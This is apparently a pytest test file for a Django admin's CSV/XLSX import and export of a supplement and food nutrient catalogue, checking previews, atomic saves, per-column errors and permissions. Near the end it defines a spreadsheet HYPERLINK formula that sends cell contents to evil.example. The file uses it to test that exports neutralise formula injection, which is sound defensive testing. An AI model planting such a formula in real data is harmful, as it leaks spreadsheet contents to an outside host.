"""The catalogue in spreadsheets: products and foods with their nutrient amounts, out to CSV/XLSX and back in,
with a preview first, every row's errors by column, and nothing saved when any row is invalid."""

import csv
import io

import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from reversion.models import Version

from tests.admin_forms import read_form

CSV_FORMAT, XLSX_FORMAT = "0", "1"
PRODUCT_HEADER = (
    "slug,name,brand,description,url,price,currency,servings_per_container,certification,is_active,is_starter,"
    "editor_note,calcium_mg,calcium_form,vitamin_k2_mcg,vitamin_k2_form"
)


def product_row(slug, **cells):
    values = {
        "slug": slug,
        "name": f"Product {slug}",
        "brand": "Acme",
        "description": "Calcium citrate with K2.",
        "url": f"https://shop.example/{slug}",
        "price": "12.50",
        "currency": "usd",
        "servings_per_container": "60",
        "certification": "usp",
        "is_active": "yes",
        "is_starter": "no",
        "editor_note": "",
        "calcium_mg": "500",
        "calcium_form": "calcium-citrate",
        "vitamin_k2_mcg": "90",
        "vitamin_k2_form": "mk-7",
        **cells,
    }
    return ",".join(values[name] for name in PRODUCT_HEADER.split(","))


def upload(client, model_name, content, *, name="catalogue.csv", file_format=CSV_FORMAT):
    """Step one of the admin import: the upload, answered with the preview (a dry run)."""
    url = reverse(f"admin:calculator_{model_name}_import")
    data = {"format": file_format, "import_file": SimpleUploadedFile(name, content)}
    return client.post(url, data)


def confirm(client, model_name, preview):
    assert preview.status_code == 200
    data = read_form(preview.content, "")
    assert "import_file_name" in data, "the preview offers no confirmation"
    return client.post(reverse(f"admin:calculator_{model_name}_process_import"), data)


def test_product_csv_import_previews_then_saves_with_nutrient_amounts(editor_client):
    from calculator.models import Product

    content = "\n".join([PRODUCT_HEADER, product_row("cal-k2-one"), product_row("cal-only", vitamin_k2_mcg="")])
    preview = upload(editor_client, "product", content.encode())
    assert preview.status_code == 200
    assert b"Preview" in preview.content and b"cal-k2-one" in preview.content
    assert not Product.objects.filter(slug__in=["cal-k2-one", "cal-only"]).exists()  # the preview saved nothing

    response = confirm(editor_client, "product", preview)
    assert response.status_code == 302
    product = Product.objects.get(slug="cal-k2-one")
    assert product.currency == "USD" and product.is_active and str(product.price) == "12.50"
    amounts = {row.nutrient.slug: (str(row.amount), row.form) for row in product.nutrients.select_related("nutrient")}
    assert amounts == {"calcium": ("500.0", "calcium-citrate"), "vitamin-k2": ("90.0", "mk-7")}
    assert set(Product.objects.get(slug="cal-only").nutrients.values_list("nutrient__slug", flat=True)) == {"calcium"}
    (version,) = Version.objects.get_for_object(product)
    assert version.revision.user.username == "editor-in-group"
    assert "catalogue.csv" in version.revision.get_comment()


def test_product_csv_with_one_bad_row_saves_nothing_and_names_the_error(editor_client):
    from calculator.models import Product

    before = Product.objects.count()
    content = "\n".join(
        [
            PRODUCT_HEADER,
            product_row("good-one"),
            product_row("bad-one", calcium_mg="lots", currency="dollars", vitamin_k2_form="calcium-citrate"),
            product_row("good-two"),
        ]
    )
    preview = upload(editor_client, "product", content.encode())
    assert preview.status_code == 200
    html = preview.content.decode()
    assert "Some rows failed to validate" in html
    assert "“lots” is not a number" in html
    assert "three-letter currency code" in html
    assert "Calcium citrate is not a form of vitamin k:" in html
    assert "Confirm import" not in html
    assert Product.objects.count() == before
    assert not Product.objects.filter(slug__in=["good-one", "good-two"]).exists()


def test_resource_import_is_atomic_outside_the_admin_too(db):
    from calculator.admin.spreadsheets import ProductResource
    from calculator.models import Product

    dataset = tablib.Dataset().load(
        "\n".join([PRODUCT_HEADER, product_row("fine"), product_row("no-amounts", calcium_mg="", vitamin_k2_mcg="")]),
        format="csv",
    )
    result = ProductResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors()
    (invalid,) = result.invalid_rows
    assert invalid.number == 2
    assert "Give at least one nutrient with its amount per serving." in str(invalid.error_dict)
    assert not Product.objects.filter(slug="fine").exists()


@pytest.mark.parametrize(
    ("cells", "column", "message"),
    [
        ({"calcium_mg": "0"}, "calcium_mg", "leave the nutrient out if the product has none"),
        ({"calcium_mg": "-5"}, "calcium_mg", "Enter the amount in one serving, more than 0"),
        ({"calcium_mg": "12.345"}, "calcium_mg", "decimal place"),
        ({"is_active": "maybe"}, "is_active", "Enter yes or no"),
        ({"servings_per_container": "2.5"}, "servings_per_container", "whole number"),
        ({"url": "shop.example/x"}, "url", "starting with https://"),
        ({"certification": "gold"}, "certification", "not a valid choice"),
        ({"calcium_form": "nonsense"}, "calcium_form", "not a valid choice"),
        ({"name": ""}, "name", "cannot be blank"),
    ],
    ids=["zero", "negative", "precision", "boolean", "whole", "url", "choice", "form", "blank"],
)
def test_product_row_errors_name_their_column(db, cells, column, message):
    from calculator.admin.spreadsheets import ProductResource

    dataset = tablib.Dataset().load("\n".join([PRODUCT_HEADER, product_row("checked", **cells)]), format="csv")
    result = ProductResource().import_data(dataset, dry_run=True)
    (invalid,) = result.invalid_rows
    assert column in invalid.field_specific_errors
    assert message in " ".join(invalid.field_specific_errors[column])


def test_export_writes_one_row_per_product_with_nutrient_columns(editor_client):
    from calculator.models import Product

    url = reverse("admin:calculator_product_export")
    data = read_form(editor_client.get(url).content, "")
    data["format"] = [CSV_FORMAT]
    response = editor_client.post(url, data)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == Product.objects.count()
    product = Product.objects.prefetch_related("nutrients__nutrient").order_by("pk").first()
    row = next(row for row in rows if row["slug"] == product.slug)
    for amount in product.nutrients.all():
        prefix = amount.nutrient.slug.replace("-", "_")
        assert row[f"{prefix}_{amount.nutrient.unit.lower()}"] == f"{amount.amount:f}".removesuffix(".0")
        assert row[f"{prefix}_form"] == amount.form


def test_exported_xlsx_imports_back_unchanged(editor_client):
    from calculator.admin.spreadsheets import FoodResource
    from calculator.models import FoodNutrient

    before = sorted(FoodNutrient.objects.values_list("food__slug", "nutrient__slug", "amount", "source_url"))
    url = reverse("admin:calculator_food_export")
    data = read_form(editor_client.get(url).content, "")
    data["format"] = [XLSX_FORMAT]
    exported = editor_client.post(url, data)
    assert exported.status_code == 200
    assert "spreadsheetml" in exported["Content-Type"]
    headers = tablib.Dataset().load(exported.content, format="xlsx").headers
    assert {"slug", "calcium_mg", "vitamin_k2_mcg", "calcium_source_url"} <= set(headers)
    assert set(headers) >= set(FoodResource().get_export_headers())

    preview = upload(editor_client, "food", exported.content, name="foods.xlsx", file_format=XLSX_FORMAT)
    assert b"Some rows failed" not in preview.content, preview.content.decode()[:3000]
    assert confirm(editor_client, "food", preview).status_code == 302
    after = sorted(FoodNutrient.objects.values_list("food__slug", "nutrient__slug", "amount", "source_url"))
    assert after == before


def test_food_import_sets_and_removes_amounts_and_leaves_missing_columns_alone(editor_client):
    from calculator.models import Food

    milk = Food.objects.get(slug="milk")
    k2_before = milk.nutrients.get(nutrient__slug="vitamin-k2").amount
    content = (
        "slug,name,category,serving,serving_quantity,serving_unit,sort_order,calcium_mg,calcium_source_url,magnesium_mg\n"
        "milk,Milk,dairy,1 cup (245 ml),245,ml,1,305,https://fdc.nal.usda.gov/,\n"
        "oat-drink,Oat drink,fortified,1 cup (240 ml),240,ml,9,350,,\n"
    )
    assert confirm(editor_client, "food", upload(editor_client, "food", content.encode())).status_code == 302
    calcium = milk.nutrients.get(nutrient__slug="calcium")
    assert str(calcium.amount) == "305.0" and calcium.source_url == "https://fdc.nal.usda.gov/"
    assert milk.nutrients.get(nutrient__slug="vitamin-k2").amount == k2_before  # no vitamin_k2 column: untouched
    assert not milk.nutrients.filter(nutrient__slug="magnesium").exists()  # empty cell: removed
    oat = Food.objects.get(slug="oat-drink")
    assert list(oat.nutrients.values_list("nutrient__slug", flat=True)) == ["calcium"]


def test_unreadable_file_gets_a_message(editor_client):
    response = upload(editor_client, "product", b"\x00\x01 not a spreadsheet", name="x.xlsx", file_format=XLSX_FORMAT)
    assert response.status_code == 200
    assert b"errorlist" in response.content or b"Errors" in response.content


def test_missing_slug_column_is_reported_not_raised(editor_client):
    response = upload(editor_client, "product", b"name,calcium_mg\nSomething,300\n")
    assert response.status_code == 200
    assert b"slug" in response.content


def test_import_and_export_need_permissions(client, django_user_model):
    client.force_login(django_user_model.objects.create_user(username="clerk", password=None, is_staff=True))
    assert client.get(reverse("admin:calculator_product_import")).status_code == 403
    assert client.get(reverse("admin:calculator_product_export")).status_code == 403


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")'


@pytest.fixture
def product_with_a_formula(db):
    from calculator.models import Product

    product = Product.objects.order_by("pk").first()
    product.name = FORMULA
    product.description = "+1+2 and -3 and @SUM(1) are text"
    product.save()
    return product


def export(client, file_format):
    url = reverse("admin:calculator_product_export")
    data = read_form(client.get(url).content, "")
    data["format"] = [file_format]
    response = client.post(url, data)
    assert response.status_code == 200
    return response


def test_csv_export_escapes_formulas(editor_client, product_with_a_formula):
    rows = list(csv.DictReader(io.StringIO(export(editor_client, "0").content.decode("utf-8-sig"))))
    row = next(row for row in rows if row["slug"] == product_with_a_formula.slug)
    assert row["name"] == "'" + FORMULA
    for other in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in other.values() if cell)


def test_xlsx_export_has_no_live_formula(editor_client, product_with_a_formula):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export(editor_client, "1").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + FORMULA in [cell.value for cell in cells]
    numbers = [cell.value for cell in cells if isinstance(cell.value, int | float)]
    assert numbers  # amounts stay numbers
    dataset = tablib.Dataset().load(export(editor_client, "1").content, format="xlsx")
    assert "'" + FORMULA in dataset["name"]
